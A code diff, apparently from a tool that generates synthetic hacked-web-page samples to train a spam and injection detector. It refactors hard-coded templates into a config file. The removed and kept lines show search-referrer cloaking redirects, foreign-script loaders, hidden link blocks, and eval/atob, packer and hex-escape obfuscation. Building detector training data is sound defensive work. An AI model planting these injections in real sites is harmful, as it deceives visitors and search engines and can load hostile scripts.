@@ -4,59 +4,47 @@ from __future__ import annotations
 
 import base64
 import re
+from pathlib import Path
 from urllib.parse import quote
 
 from detector.learn.generate.dress import hide, name, pieces
 from detector.learn.generate.hidden import link_list
-from detector.learn.generate.words import half
+from detector.learn.generate.words import RECIPES, half, shapes
 from detector.learn.generate.work import Work, attack
 
-ENGINES = ("baidu", "google", "sogou", "bing", "so.com", "yahoo", "sm.cn", "naver", "yandex", "360")
-GOES = (
-    "location.href='{u}'",
-    "window.location='{u}'",
-    "window.location.href=\"{u}\"",
-    "location.replace('{u}')",
-    "top.location.href='{u}'",
-    "self.location='{u}'",
-    "parent.window.location.href='{u}'",
-    "document.location.assign('{u}')",
-)
-TESTS = (
-    "if(/{e}/i.test(document.referrer)){{{g}}}",
-    "var r=document.referrer;if(r.indexOf('{a}')>0||r.indexOf('{b}')>0){{{g}}}",
-    "if(document.referrer.match(/({e})/i)){{setTimeout(function(){{{g}}},{n})}}",
-    "var s=navigator.userAgent.toLowerCase();if(s.indexOf('{a}')==-1&&s.indexOf('spider')<0){{{g}}}",
-    "if(navigator.userAgent.match(/(iPhone|Android|Mobile)/i)&&/{e}/.test(document.referrer)){{{g}}}",
-    "(function(){{var ref=document['referrer'];if(!/bot|spider/i.test(navigator.userAgent)&&ref.search(/{e}/)>-1)"
-    "{{{g}}}}})();",
-)
-PACKER = (
-    "eval(function(p,a,c,k,e,d){{e=function(c){{return c.toString(36)}};if(!''.replace(/^/,String))"
-    "{{while(c--){{d[c.toString(a)]=k[c]||c.toString(a)}}k=[function(e){{return d[e]}}];e=function()"
-    "{{return'\\\\w+'}};c=1}};while(c--){{if(k[c]){{p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),"
-    "k[c])}}}}return p}}('{p}',{a},{c},'{k}'.split('|'),0,{{}}))"
-)
+WRAPPINGS = ("packer", "atob", "from-char-code", "hex-escapes", "unescape", "unicode-escapes")
 
 
-def packed(code: str) -> str:
+def fill(pattern: str, **slots: str) -> str:
+    """A pattern of scripts.toml with its `{SLOT}`s filled; other braces are code."""
+    for slot, value in slots.items():
+        pattern = pattern.replace("{" + slot + "}", value)
+    return pattern
+
+
+def pick(work: Work, key: str, **slots: str) -> str:
+    """One of the pool's patterns under a key, filled."""
+    found = shapes("scripts", work.speech.root)[key]
+    return fill(work.rng.choice(half(found, work.pool)), **slots).strip()
+
+
+def packed(code: str, root: Path = RECIPES) -> str:
     """`code` in the shape of the common packer (its text is a true packing)."""
     words = list(dict.fromkeys(re.findall(r"\w+", code)))[:36]
     digits = "0123456789abcdefghijklmnopqrstuvwxyz"
     index = {w: digits[i] for i, w in enumerate(words)}
     body = re.sub(r"\w+", lambda m: index.get(m.group(), m.group()), code)
     body = body.replace("\\", "\\\\").replace("'", "\\'")
-    return PACKER.format(p=body, a=36, c=len(words), k="|".join(words))
+    pattern: str = shapes("scripts", root)["packer"]
+    return fill(pattern, COUNT=str(len(words)), WORDS="|".join(words), BODY=body)
 
 
 def obfuscate(work: Work, code: str) -> tuple[str, str]:
     """The code in one of the usual wrappings, and the wrapping's name."""
     rng = work.rng
-    way = rng.choice(
-        half(("packer", "atob", "from-char-code", "hex-escapes", "unescape", "unicode-escapes"), work.pool)
-    )
+    way = rng.choice(half(WRAPPINGS, work.pool))
     if way == "packer":
-        return packed(code), way
+        return packed(code, work.speech.root), way
     if way == "atob":
         made = base64.b64encode(code.encode("utf-8")).decode("ascii")
         return rng.choice(("eval(atob('{}'))", 'new Function(atob("{}"))()')).format(made), way
@@ -66,8 +54,12 @@ def obfuscate(work: Work, code: str) -> tuple[str, str]:
     if way == "hex-escapes":
         chain = "".join(f"\\x{ord(c):02x}" if ord(c) < 256 else f"\\u{ord(c):04x}" for c in code)
         array = f"_0x{rng.randrange(4096, 65535):x}"
-        return rng.choice((f'eval("{chain}")', f'var {array}=["{chain}"];'
-                           f"window['\\x65\\x76\\x61\\x6c']({array}[0])")), way  # fmt: skip
+        return rng.choice(
+            (
+                f'eval("{chain}")',
+                f"var {array}=[\"{chain}\"];window['\\x65\\x76\\x61\\x6c']({array}[0])",
+            )
+        ), way
     if way == "unescape":
         return f"eval(unescape('{quote(code, safe='')}'))", way
     chain = "".join(f"\\u{ord(c) & 0xFFFF:04x}" for c in code)
@@ -86,12 +78,16 @@ def put(work: Work, code: str, technique: str, how: str, places: tuple[str, ...]
 def conditional_redirect(work: Work) -> bool:
     """Visitors from search engines are sent away; others see the page."""
     rng = work.rng
-    engines = rng.sample(ENGINES, rng.randrange(2, 6))
-    go = rng.choice(half(GOES, work.pool)).format(u=work.speech.url())
-    code = rng.choice(half(TESTS, work.pool)).format(
-        e="|".join(e.replace(".", "\\.") for e in engines),
-        a=engines[0], b=engines[1], g=go, n=rng.randrange(0, 3000),
-    )  # fmt: skip
+    engines = rng.sample(shapes("scripts", work.speech.root)["engines"], rng.randrange(2, 6))
+    code = pick(
+        work,
+        "test",
+        ENGINES="|".join(e.replace(".", "\\.") for e in engines),
+        A=engines[0],
+        B=engines[1],
+        GO=pick(work, "go", URL=work.speech.url()),
+        N=str(rng.randrange(0, 3000)),
+    )
     if rng.random() < 0.3:
         code, how = obfuscate(work, code)
         work.mark("obfuscated-script")
@@ -105,17 +101,8 @@ def script_hides(work: Work) -> bool:
     rng = work.rng
     inner, spans = link_list(work, max(2, work.amount))
     key = name(rng)
-    codes = (
-        f"document.getElementById('{key}').style.display='none'",
-        f'document.getElementById("{key}").style.visibility = "hidden";',
-        f"$('#{key}').hide()",
-        f"document.getElementById({pieces(key, rng)}).style['display']={pieces('none', rng)}",
-        f"var o=document.getElementById('{key}');o.style.position='absolute';o.style.left='-9999px';",
-        f"document.querySelector('#{key}').hidden=true",
-        f"document.getElementById('{key}').style.cssText='height:0;overflow:hidden'",
-        f"document.write({pieces(f'<style>#{key}{{display:none}}</style>', rng)})",
-    )
-    code = rng.choice(half(codes, work.pool))
+    sheet = pieces(f"<style>#{key}{{display:none}}</style>", rng)
+    code = pick(work, "hide", KEY=key, SPLIT=pieces(key, rng), SHEET=sheet)
     place, at = work.spot("body-start", "before-footer", "body-end", "in-article")
     work.mark("script-hides-block", "script", place)
     block = f'<div id="{key}">{inner}</div><script>{code}</script>'
@@ -129,7 +116,9 @@ def script_writes(work: Work) -> bool:
     if rng.random() < 0.35:
         inner, spans = link_list(work, max(2, work.amount))
         place, at = work.spot("body-start", "before-footer", "body-end")
-        style = rng.choice(("display:none", "position:absolute;left:-9999px", "height:0;overflow:hidden"))
+        style = rng.choice(
+            ("display:none", "position:absolute;left:-9999px", "height:0;overflow:hidden")
+        )
         opened = f"<div style='{style}'>"
         made = (
             f"<script>document.write({pieces(opened, rng, chr(34))})</script>{inner}"
@@ -160,15 +149,8 @@ def script_writes(work: Work) -> bool:
 @attack("obfuscated-script", "script")
 def obfuscated_script(work: Work) -> bool:
     """Packed or encoded code that loads a foreign script, redirects or writes links."""
-    rng, url = work.rng, work.speech.url()
-    payload = rng.choice(
-        (
-            f"location.href='{url}'",
-            f"document.write('<script src=\"{url}j.js\"></scr'+'ipt>')",
-            f"var s=document.createElement('script');s.src='{url}';document.head.appendChild(s)",
-            f"document.write('<a href=\"{url}\">{work.speech.term()}</a>')",
-        )
-    )
+    rng = work.rng
+    payload = pick(work, "load", URL=work.speech.url(), TERM=work.speech.term())
     code, how = obfuscate(work, payload)
     if rng.random() < 0.15 and how == "atob" and '"' not in code:
         place, at = work.spot("body-start", "in-article")
@@ -187,7 +169,7 @@ def meta_refresh(work: Work) -> bool:
         (
             '<meta http-equiv="refresh" content="{};url={}">',
             "<META HTTP-EQUIV='Refresh' CONTENT='{}; URL={}'>",
-            "<meta content=\"{}; url='{}'\" http-equiv=\"refresh\" />",
+            '<meta content="{}; url=\'{}\'" http-equiv="refresh" />',
         )
     )
     place, at = work.spot("head", "head-start", "body-start")
